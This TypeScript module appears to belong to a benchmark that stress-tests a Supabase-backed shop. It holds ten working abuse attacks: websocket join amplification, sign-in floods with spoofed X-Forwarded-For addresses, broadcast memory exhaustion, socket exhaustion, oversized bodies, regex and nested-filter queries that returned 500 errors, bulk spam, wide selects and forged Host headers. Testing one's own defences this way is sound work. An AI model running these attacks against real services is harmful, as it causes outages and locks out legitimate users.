import http from 'node:http';
import { createClient } from '@supabase/supabase-js';
import WebSocket from 'ws';
import { send, sleep, Tally } from './http.ts';
import { openRawWebSocket, type RawWebSocket } from './raw-websocket.ts';

/** The shop under attack. `owner` signs in during the sign-in floods, when known. */
export interface AttackTarget {
  url: string;
  anonKey: string;
  owner: { email: string; password: string } | null;
}

/** What the server answered an attack; `failed` when the attack reached what it aimed at beyond load. */
export interface AttackReport {
  outcome: string;
  /** e.g. the owner could not sign in, a visitor could not subscribe. */
  failed?: string;
}

export interface RunningAttack {
  /** Ends the attack, closes what it opened, and says what the server answered. */
  stop(): Promise<AttackReport>;
}

export interface Attack {
  /** The name `--attacks` takes. */
  name: string;
  /** The row's label in the results. */
  title: string;
  /** What the attack sends, in a line. */
  shape: string;
  /** The shop serves its pages too (the production build, made first when stale). */
  pages?: boolean;
  /** Starts the attack; resolves once it is in full effect (sockets open, first frames sent). */
  start(target: AttackTarget): Promise<RunningAttack>;
}

const websocketUrl = (target: AttackTarget, vsn = '1.0.0') =>
  `${target.url}/realtime/v1/websocket?apikey=${encodeURIComponent(target.anonKey)}&vsn=${vsn}`;

const apiHeaders = (target: AttackTarget): Record<string, string> => ({
  apikey: target.anonKey,
  authorization: `Bearer ${target.anonKey}`,
});

/** Runs `body` in `workers` loops until `stop` is called; `stop` resolves once every loop ended. */
function loops(workers: number, body: (worker: number) => Promise<void>): { stop(): Promise<void> } {
  let running = true;
  const done = Promise.all(
    Array.from({ length: workers }, async (_, worker) => {
      while (running) await body(worker);
    }),
  );
  return {
    async stop() {
      running = false;
      await done;
    },
  };
}

/** Opens `count` sockets, `parallel` handshakes at a time; refusals and failures are tallied. */
async function openMany(
  count: number,
  parallel: number,
  open: () => Promise<RawWebSocket>,
  tally: Tally,
): Promise<RawWebSocket[]> {
  const sockets: RawWebSocket[] = [];
  let next = 0;
  await Promise.all(
    Array.from({ length: parallel }, async () => {
      while (next < count) {
        next++;
        try {
          const socket = await open();
          tally.add(socket.status === 101 ? 'open' : `refused ${socket.status}`);
          if (socket.status === 101) sockets.push(socket);
        } catch (error) {
          tally.add(error instanceof Error ? (error.message.split(' ')[0] ?? 'error') : 'error');
        }
      }
    }),
  );
  return sockets;
}

/**
 * A `phx_join` of about 74 KiB: 100 `postgres_changes` bindings on `products`, each filtering on
 * 100 prices with `in.(…)`.
 */
function amplifiedJoin(topic: string, ref: string, accessToken: string): string {
  const bindings = Array.from({ length: 100 }, (_, b) => ({
    digits: 5,
    values: (digits: number) => Array.from({ length: 100 }, (_, v) => 10 ** (digits - 1) + b * 100 + v),
  }));
  const frame = () =>
    JSON.stringify({
      topic,
      event: 'phx_join',
      payload: {
        config: {
          broadcast: { ack: false, self: false },
          presence: { key: '' },
          postgres_changes: bindings.map(({ digits, values }) => ({
            event: '*',
            schema: 'public',
            table: 'products',
            filter: `price=in.(${values(digits).join(',')})`,
          })),
          private: false,
        },
        access_token: accessToken,
      },
      ref,
      join_ref: ref,
    });
  // Longer values binding by binding until the frame reaches 74 KiB.
  for (const binding of bindings) {
    if (frame().length >= 74 * 1024) break;
    binding.digits = 6;
  }
  return frame();
}

const joinAmplification: Attack = {
  name: 'join',
  title: 'realtime join amplification',
  shape: 'one 74 KiB `phx_join` (100 bindings × 100 `in.(…)` values) every 2 s on one socket',
  async start(target) {
    const replies = new Tally();
    let socket: RawWebSocket | null = null;
    let sent = 0;
    let reopened = 0;
    let frameBytes = 0;
    const closes = new Tally();
    const openSocket = async () => {
      const opened = await openRawWebSocket({ url: websocketUrl(target) });
      if (opened.status !== 101) {
        replies.add(`upgrade refused ${opened.status}`);
        return null;
      }
      void opened.closed.then(() => closes.add(opened.closeCode ?? 1006));
      return opened;
    };
    const countReplies = (from: RawWebSocket) => {
      for (const text of from.messages.splice(0)) {
        if (text.includes('"phx_reply"')) replies.add(text.includes('"status":"ok"') ? 'ok' : 'error');
      }
    };
    socket = await openSocket();
    const sending = loops(1, async () => {
      if (!socket || socket.socket.destroyed) {
        if (socket) countReplies(socket);
        socket = await openSocket();
        reopened++;
      }
      if (socket) {
        const frame = amplifiedJoin(`realtime:catalogo-${sent}`, String(sent + 1), target.anonKey);
        frameBytes = Buffer.byteLength(frame);
        socket.sendText(frame);
        sent++;
      }
      await sleep(2000);
    });
    await sleep(100);
    return {
      async stop() {
        await sending.stop();
        // The last frames' answers, if the server still gets to them.
        await sleep(1000);
        if (socket) {
          countReplies(socket);
          socket.destroy();
        }
        const kib = (frameBytes / 1024).toFixed(0);
        return {
          outcome:
            `${sent} joins of ${kib} KiB sent; replies: ${replies.toString()}` +
            (closes.total > 0 ? `; closed by the server: ${closes.toString()}` : '') +
            (reopened > 0 ? `; socket opened again ${reopened} times` : ''),
        };
      },
    };
  },
};

/**
 * `concurrency` loops of wrong passwords, each from a new address (the shop trusts 127.0.0.1 as its
 * proxy, so `X-Forwarded-For` is the client): every other guess for the owner's e-mail (a lockout
 * by account would shut the owner out), the others for made-up ones (a limit by account alone
 * would let them all be hashed). After 2 s, the owner's right password from an address that never
 * failed.
 */
function signInFlood(concurrency: number): Attack {
  return {
    name: `signin${concurrency}`,
    title: `sign-in flood, ${concurrency} concurrent`,
    shape:
      `${concurrency} concurrent wrong passwords, for the owner's e-mail and made-up ones, ` +
      'each from a new `X-Forwarded-For` address',
    async start(target) {
      const email = target.owner?.email ?? 'titolare@boutique.test';
      const agent = new http.Agent({ keepAlive: true, maxSockets: concurrency });
      const statuses = new Tally();
      let guess = 0;
      const address = (n: number) => `10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}`;
      const flood = loops(concurrency, async () => {
        const n = ++guess;
        const { outcome } = await send(`${target.url}/auth/v1/token?grant_type=password`, {
          method: 'POST',
          agent,
          headers: { ...apiHeaders(target), 'content-type': 'application/json', 'x-forwarded-for': address(n) },
          body: JSON.stringify({
            email: n % 2 === 0 ? email : `cliente-${n}@example.com`,
            password: `sbagliata-${n}`,
            gotrue_meta_security: {},
          }),
        });
        statuses.add(outcome);
      });
      const ownerSignIn = (async (): Promise<AttackReport> => {
        await sleep(2000);
        if (!target.owner) return { outcome: 'owner not tried (no credentials given)' };
        const { outcome, body } = await send(`${target.url}/auth/v1/token?grant_type=password`, {
          method: 'POST',
          headers: { ...apiHeaders(target), 'content-type': 'application/json', 'x-forwarded-for': '192.0.2.10' },
          body: JSON.stringify({ email: target.owner.email, password: target.owner.password }),
        });
        return outcome === 200 && body.includes('"access_token"')
          ? { outcome: 'owner signed in at the first try (200)' }
          : {
              outcome: `owner's sign-in failed: ${outcome} ${body.slice(0, 80)}`,
              failed: `owner's sign-in ${outcome}`,
            };
      })();
      await sleep(100);
      return {
        async stop() {
          const owner = await ownerSignIn;
          await flood.stop();
          agent.destroy();
          return { ...owner, outcome: `${statuses.total} guesses: ${statuses.toString()}; ${owner.outcome}` };
        },
      };
    },
  };
}

/**
 * 200 sockets, each from its own address (as many clients would be, past any cap per address),
 * join one topic asking for broadcasts, stop reading, and each sends an 8 KiB broadcast every
 * 250 ms: what the server relays to them queues up in its memory.
 */
const broadcastMemory: Attack = {
  name: 'broadcast',
  title: 'broadcast memory',
  shape: '200 sockets from 200 addresses join one topic, stop reading, each sends an 8 KiB broadcast every 250 ms',
  async start(target) {
    const topic = 'realtime:bench-broadcast';
    const opened = new Tally();
    let client = 0;
    const sockets = await openMany(
      200,
      20,
      () => {
        const n = ++client;
        const address = `198.18.${n >> 8}.${n & 255}`;
        return openRawWebSocket({ url: websocketUrl(target), headers: { 'X-Forwarded-For': address } });
      },
      opened,
    );
    const joins = new Tally();
    await Promise.all(
      sockets.map(async (socket, i) => {
        const ref = String(i + 1);
        socket.sendText(
          JSON.stringify({
            topic,
            event: 'phx_join',
            payload: { config: { broadcast: { self: true, ack: false }, presence: { key: '' }, postgres_changes: [] } },
            ref,
            join_ref: ref,
          }),
        );
        const answer = await socket.next((text) => text.includes('"phx_reply"'), 10_000);
        joins.add(answer === null ? 'no reply' : answer.includes('"status":"ok"') ? 'ok' : 'error');
        socket.stopReading();
      }),
    );
    // Each socket's broadcasts carry the ref of its own join, as realtime-js sends them.
    const text = 'x'.repeat(8192);
    const messages = sockets.map((_, i) =>
      JSON.stringify({
        topic,
        event: 'broadcast',
        payload: { type: 'broadcast', event: 'nota', payload: { text } },
        ref: null,
        join_ref: String(i + 1),
      }),
    );
    let sent = 0;
    let skipped = 0;
    const timer = setInterval(() => {
      for (const [i, socket] of sockets.entries()) {
        if (socket.socket.destroyed) continue;
        // The attacker's own queue stays small: a socket the server stopped reading is skipped.
        if (socket.socket.writableLength > 1024 * 1024) {
          skipped++;
          continue;
        }
        if (socket.sendText(messages[i]!)) sent++;
      }
    }, 250);
    await sleep(500);
    return {
      stop() {
        clearInterval(timer);
        const cut = sockets.filter((socket) => socket.socket.destroyed).length;
        for (const socket of sockets) socket.destroy();
        return Promise.resolve({
          outcome:
            `sockets: ${opened.toString()}; joins: ${joins.toString()}; ${sent} broadcasts sent` +
            (skipped > 0 ? ` (${skipped} held back: the server was not reading)` : '') +
            `; ${cut} of ${sockets.length} sockets closed by the server`,
        });
      },
    };
  },
};

/** A `ws` WebSocket that says it comes through the shop's proxy from `address`. */
function forwardedWebSocket(address: string) {
  return class ForwardedWebSocket extends WebSocket {
    constructor(url: string, protocols?: string | string[]) {
      super(url, protocols, { headers: { 'x-forwarded-for': address } });
    }
  };
}

/** A visitor's live catalogue, as the shop's page subscribes: the first status it reaches. */
async function visitorSubscribes(target: AttackTarget, address: string, timeoutMs = 15_000): Promise<string> {
  const client = createClient(target.url, target.anonKey, {
    auth: { persistSession: false, autoRefreshToken: false },
    realtime: { transport: forwardedWebSocket(address) as unknown as typeof globalThis.WebSocket },
  });
  const channel = client.channel('catalogo-visitatore');
  try {
    return await new Promise<string>((resolve) => {
      const timer = setTimeout(() => resolve(`no answer in ${timeoutMs / 1000} s`), timeoutMs);
      channel
        .on('postgres_changes', { event: '*', schema: 'public', table: 'products' }, () => undefined)
        .subscribe((status) => {
          clearTimeout(timer);
          resolve(status);
        });
    });
  } finally {
    await client.removeChannel(channel);
    await client.realtime.disconnect();
  }
}

const socketCap: Attack = {
  name: 'sockets',
  title: 'socket cap',
  shape: 'one address opens 1,000 sockets, then a visitor from another address subscribes',
  async start(target) {
    const opened = new Tally();
    const sockets = await openMany(
      1000,
      50,
      () => openRawWebSocket({ url: websocketUrl(target, '2.0.0'), headers: { 'X-Forwarded-For': '198.51.100.23' } }),
      opened,
    );
    const visitor = visitorSubscribes(target, '203.0.113.50');
    return {
      async stop() {
        const status = await visitor;
        const cut = sockets.filter((socket) => socket.socket.destroyed).length;
        for (const socket of sockets) socket.destroy();
        const outcome = `sockets: ${opened.toString()} (${cut} closed by the server since); the visitor got ${status}`;
        return status === 'SUBSCRIBED' ? { outcome } : { outcome, failed: `the visitor got ${status}` };
      },
    };
  },
};

/** About 9.4 MB of product rows, in JSON: what an anonymous client may not write at all. */
function bigProductsBody(): Buffer {
  const row = JSON.stringify({
    name: 'Anello in oro giallo con diamante',
    category: 'Anelli',
    price: 1250,
    description: 'Un anello di prova. '.repeat(40),
  });
  const count = Math.ceil(9.4e6 / (row.length + 1));
  return Buffer.from(`[${Array.from({ length: count }, () => row).join(',')}]`);
}

const bodiesBeforePermission: Attack = {
  name: 'bodies',
  title: 'bodies before permission',
  shape: '4 concurrent 9.4 MB anonymous POSTs to `/rest/v1/products`, repeated',
  start(target) {
    const body = bigProductsBody();
    const statuses = new Tally();
    const posting = loops(4, async () => {
      const { outcome } = await send(`${target.url}/rest/v1/products`, {
        method: 'POST',
        headers: { ...apiHeaders(target), 'content-type': 'application/json', prefer: 'return=minimal' },
        body,
      });
      statuses.add(outcome);
    });
    return Promise.resolve({
      async stop() {
        await posting.stop();
        return { outcome: `${statuses.total} posts of ${(body.length / 1e6).toFixed(1)} MB: ${statuses.toString()}` };
      },
    });
  },
};

/** The read shapes that answered 500: a catastrophic regular expression and deep `or=()` trees. */
const HOSTILE_READS = [
  '/rest/v1/products?select=*&name=match.(.{1,255}){1,255}',
  `/rest/v1/products?select=id&or=(${'or('.repeat(3000)}name.eq.x${')'.repeat(3000)})`,
  `/rest/v1/products?select=id&and=(${'and('.repeat(1000)}price.gt.1${')'.repeat(1000)})`,
] as const;

const regexAndTrees: Attack = {
  name: '500s',
  title: 'regex and nested filters',
  shape: '4 concurrent loops of `name=match.(.{1,255}){1,255}` and `or=()`/`and=()` trees 1,000–3,000 deep',
  start(target) {
    const statuses = new Tally();
    const agent = new http.Agent({ keepAlive: true, maxSockets: 4 });
    let n = 0;
    const reading = loops(4, async () => {
      const path = HOSTILE_READS[n++ % HOSTILE_READS.length] ?? HOSTILE_READS[0];
      const { outcome } = await send(`${target.url}${path}`, { agent, headers: apiHeaders(target) });
      statuses.add(outcome);
    });
    return Promise.resolve({
      async stop() {
        await reading.stop();
        agent.destroy();
        return { outcome: `${statuses.total} reads: ${statuses.toString()}` };
      },
    });
  },
};

/** A client address per request, for a shop that trusts 127.0.0.1 as its proxy. */
const forwardedAddress = (n: number) => `10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}`;

/** A short enquiry to the jewellery shop: 150 of them are ~23 KB, within the route's 32 KB. */
function enquiryRow(n: number): Record<string, string> {
  return {
    shop_id: 'aurea',
    first_name: 'Mario',
    last_name: 'Rossi',
    email: `c${n}@example.com`,
    subject: 'Anello',
    body: `Disponibile? (${n})`,
    page: '/shop',
  };
}

/** The most enquiries one address may send: many rows in one POST, each POST from a new address. */
const bulkEnquiries: Attack = {
  name: 'bulk',
  title: 'bulk enquiries',
  shape:
    '4 concurrent loops of anonymous POSTs of 150-row enquiry arrays to `/rest/v1/messages`, ' +
    'each from a new `X-Forwarded-For` address',
  start(target) {
    const statuses = new Tally();
    const agent = new http.Agent({ keepAlive: true, maxSockets: 4 });
    let posts = 0;
    let rows = 0;
    const posting = loops(4, async () => {
      const n = ++posts;
      const body = JSON.stringify(Array.from({ length: 150 }, (_, i) => enquiryRow(n * 150 + i)));
      const { outcome } = await send(`${target.url}/rest/v1/messages`, {
        method: 'POST',
        agent,
        headers: {
          ...apiHeaders(target),
          'content-type': 'application/json',
          prefer: 'return=minimal',
          'x-forwarded-for': forwardedAddress(n),
        },
        body,
      });
      statuses.add(outcome);
      if (outcome === 201) rows += 150;
    });
    return Promise.resolve({
      async stop() {
        await posting.stop();
        agent.destroy();
        return { outcome: `${statuses.total} posts of 150 enquiries: ${statuses.toString()}; ${rows} rows stored` };
      },
    });
  },
};

/** `select=c0:name,c1:name,…`: `n` aliases of one column, each rendered in every row. */
const wideSelect = (n: number) => Array.from({ length: n }, (_, i) => `c${i}:name`).join(',');

const wideSelects: Attack = {
  name: 'wide',
  title: 'wide selects',
  shape:
    '4 concurrent loops of anonymous `select=` lists of 900 aliases on `products`, ' +
    'each read a new one (`limit` varies)',
  start(target) {
    const statuses = new Tally();
    const agent = new http.Agent({ keepAlive: true, maxSockets: 4 });
    const select = wideSelect(900);
    let n = 0;
    const reading = loops(4, async () => {
      const limit = 100_000 + n++;
      const { outcome } = await send(`${target.url}/rest/v1/products?select=${select}&limit=${limit}`, {
        agent,
        headers: apiHeaders(target),
        keepBytes: 64,
      });
      statuses.add(outcome);
    });
    return Promise.resolve({
      async stop() {
        await reading.stop();
        agent.destroy();
        return { outcome: `${statuses.total} reads: ${statuses.toString()}` };
      },
    });
  },
};

/** Page requests naming hosts the shop never heard of, and its own machine's names on other ports. */
const madeUpHosts: Attack = {
  name: 'hosts',
  title: 'made-up hosts',
  shape:
    '4 concurrent loops of page requests (`/`, `/shop`) with a new made-up `Host` header each ' +
    '(`negozio-<n>.example`, `localhost:<port>`, `127.0.0.1:<port>`)',
  pages: true,
  start(target) {
    const statuses = new Tally();
    const agent = new http.Agent({ keepAlive: true, maxSockets: 4 });
    let n = 0;
    const paths = ['/', '/shop'];
    const reading = loops(4, async () => {
      const i = n++;
      const port = 10_000 + (i % 50_000);
      const host = [`negozio-${i}.example`, `localhost:${port}`, `127.0.0.1:${port}`][i % 3] ?? 'negozio.example';
      const { outcome } = await send(`${target.url}${paths[i % paths.length] ?? '/'}`, {
        agent,
        headers: { host, 'accept-encoding': 'gzip' },
        keepBytes: 0,
      });
      statuses.add(outcome);
    });
    return Promise.resolve({
      async stop() {
        await reading.stop();
        agent.destroy();
        return { outcome: `${statuses.total} page requests: ${statuses.toString()}` };
      },
    });
  },
};

/** Every attack of the table, in the order the benchmark runs them. */
export const ATTACKS: readonly Attack[] = [
  joinAmplification,
  signInFlood(16),
  signInFlood(64),
  broadcastMemory,
  socketCap,
  bodiesBeforePermission,
  regexAndTrees,
  bulkEnquiries,
  wideSelects,
  madeUpHosts,
];
